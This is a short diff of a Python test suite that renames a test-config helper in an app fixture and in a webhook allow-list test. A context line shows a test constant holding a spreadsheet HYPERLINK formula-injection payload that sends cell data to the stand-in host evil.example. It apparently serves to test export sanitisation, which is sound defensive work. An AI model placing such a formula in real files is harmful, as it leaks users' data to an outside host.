@@ -30,7 +30,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 def _make_app(database_url, **extra):
     from app import create_app
 
-    return create_app(cf.test_config(database_url, SYNC_ROLES_ON_START=False, **extra))
+    return create_app(cf.desk_test_config(database_url, SYNC_ROLES_ON_START=False, **extra))
 
 
 @pytest.fixture()
@@ -344,7 +344,7 @@ def test_webhooks_go_to_https_443_of_allowed_hosts_only(app, url, ok):
         with app.app_context():
             assert webhook_host_allowed(url) is ok
     finally:
-        app.config["WEBHOOK_ALLOWED_HOSTS"] = cf.test_config("x")["WEBHOOK_ALLOWED_HOSTS"]
+        app.config["WEBHOOK_ALLOWED_HOSTS"] = cf.desk_test_config("x")["WEBHOOK_ALLOWED_HOSTS"]
 
 
 # --- issue 9 item 21: 405 keeps Allow ---------------------------------------------------------------
